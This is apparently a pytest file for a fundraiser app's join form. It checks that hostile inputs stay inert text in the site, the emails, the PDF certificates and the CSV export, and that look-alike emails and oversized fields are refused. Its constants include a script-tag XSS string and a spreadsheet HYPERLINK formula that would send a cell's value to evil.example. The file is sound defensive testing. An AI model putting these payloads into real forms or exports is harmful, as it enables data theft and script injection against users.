"""What a stranger types into the join form, followed to everything it reaches: the site,
the welcome mail, the certificate PDF and the register's CSV. Markup stays text, formulas
stay text, an email of look-alike letters is refused, a look-alike name is a person of
their own, and the longest fields fit."""

from __future__ import annotations

import io
import json
from pathlib import Path

import pypdf
import pytest

from fundraiser.sitegen.build import build_site
from tests import joinfixtures, stripe_fixtures
from tests.conftest import Cli
from tests.joinfixtures import JOIN, JOIN_NOW, confirm_join, post_join, save_card
from tests.smtp_fixtures import SmtpServer, fixture_smtp_server  # noqa: F401 - fixture
from tests.spreadsheet import as_typed, live_formulas, open_csv
from tests.stripe_fixtures import ROOT, TestClient

localstripe = stripe_fixtures.localstripe
stripe_env = stripe_fixtures.stripe_env
join_service = joinfixtures.join_service

MARKUP = '<script>alert("x")</script><b>Bold</b> [link](http://evil.example)'
FORMULA = '=HYPERLINK("http://evil.example/?"&C2,"Click")'
LOOK_ALIKE = "Gr\u0430ce Hopper"  # a Cyrillic a: another person, however it looks
LONG_NAME = "N" * 199 + "\u00e9"  # 200 characters, the most the form takes
LONG_ADDRESS = ("12 Long Road, " * 40)[:500]

PEOPLE = [
    {"name": MARKUP, "email": "markup@example.org", "address": FORMULA, "display_name": MARKUP},
    {"name": FORMULA, "email": "formula@example.org", "address": MARKUP, "display_name": FORMULA},
    {"name": "Grace Hopper", "email": "grace@example.org", "address": "1 Road"},
    {"name": LOOK_ALIKE, "email": "grace.h@example.org", "address": "1 Road"},
    {"name": LONG_NAME, "email": "long@example.org", "address": LONG_ADDRESS},
]
LATER = {"FUNDRAISER_NOW": "2027-03-01T09:30:00+00:00"}


def join(service: TestClient, env: dict[str, str], person: dict[str, str]) -> int:
    body = {**JOIN, **person}
    if "display_name" not in person:
        body.pop("display_name")
    made = post_join(service, body)
    assert made.status_code == 201, made.text
    save_card(env, made.json()["client_secret"])
    done = confirm_join(service, made.json()).json()
    assert done["paid"] and done["member_number"], done
    return int(done["member_number"])


def test_hostile_fields_reach_the_site_mail_pdf_and_csv_as_text(
    join_service: TestClient,
    stripe_env: dict[str, str],
    sqlite_cli: Cli,
    sqlite_url: str,
    smtp_server: SmtpServer,
    campaign_dir: Path,
    tmp_path: Path,
) -> None:
    # An email that only looks like Grace's is refused in words, before anything is kept.
    spoof = post_join(join_service, {**JOIN, "email": "gr\u0430ce@example.org"})
    assert spoof.status_code == 400 and spoof.json()["field"] == "email"
    assert "only looks like a plain letter" in spoof.json()["error"]
    numbers = [join(join_service, stripe_env, person) for person in PEOPLE]
    # The look-alike name is a person of their own, with their own number.
    assert numbers == [1, 2, 3, 4, 5]
    apps = json.loads(sqlite_cli.ok("members", "applications", "--json", env=LATER).output)
    assert {a["kind"] for a in apps} == {"join"}

    # The welcome mail: the name as text in both parts, never markup or a link.
    sqlite_cli.ok("mail", "send", env={**LATER, "SMTP_URL": smtp_server.url})
    [markup_mail] = smtp_server.to("markup@example.org")
    html = markup_mail.message.get_body(("html",)).get_content()
    plain = markup_mail.message.get_body(("plain",)).get_content()
    assert "<script>" not in html and "<b>Bold</b>" not in html
    assert 'href="http://evil.example' not in html
    assert "&lt;script&gt;" in html
    assert MARKUP in " ".join(plain.split())
    [pdf] = [a.get_content() for a in markup_mail.message.iter_attachments()]
    words = " ".join(
        " ".join(p.extract_text() for p in pypdf.PdfReader(io.BytesIO(pdf)).pages).split()
    )
    flat = "".join(words.split())  # lines wrap wherever the PDF's text breaks them
    assert "".join(MARKUP.split()) in flat and FORMULA in flat  # name and address as typed
    [look_alike] = smtp_server.to("grace.h@example.org")
    assert LOOK_ALIKE in look_alike.message.get_body(("plain",)).get_content()
    [long_mail] = smtp_server.to("long@example.org")
    [long_pdf] = [a.get_content() for a in long_mail.message.iter_attachments()]
    assert len(pypdf.PdfReader(io.BytesIO(long_pdf)).pages) == 1  # it fits its page

    # The register as a spreadsheet opens it: no formula runs, every name as typed.
    out = tmp_path / "register.csv"
    sqlite_cli.ok("members", "export", "--format", "csv", "--out", str(out), env=LATER)
    rows = open_csv(out)
    assert live_formulas(rows) == []
    names = [as_typed(r["name"]) for r in rows]
    assert names == [p["name"] for p in PEOPLE]

    # The site: display names shown as text; no email, address or amount per person.
    output = tmp_path / "site"
    build_site(
        ROOT / "site" / "pelicanconf.py",
        campaign_path=campaign_dir / "campaign.toml",
        database_url=sqlite_url,
        now=JOIN_NOW,
        output=output,
    )
    page = (output / "transparency.html").read_text(encoding="utf-8")
    assert "<script>alert" not in page and "<b>Bold</b>" not in page
    assert "&lt;script&gt;" in page
    public = page + (output / "campaign.json").read_text(encoding="utf-8")
    for person in PEOPLE:
        assert person["email"] not in public
    assert LONG_ADDRESS not in public and "1 Road" not in public


@pytest.mark.parametrize(
    ("field", "value"),
    [("name", "N" * 201), ("address", "A" * 501), ("display_name", "D" * 81)],
)
def test_oversized_fields_are_refused_by_name(
    join_service: TestClient, field: str, value: str
) -> None:
    answer = post_join(join_service, {**JOIN, field: value})
    assert answer.status_code == 400
    assert answer.json()["field"] == field and "longer than" in answer.json()["error"]
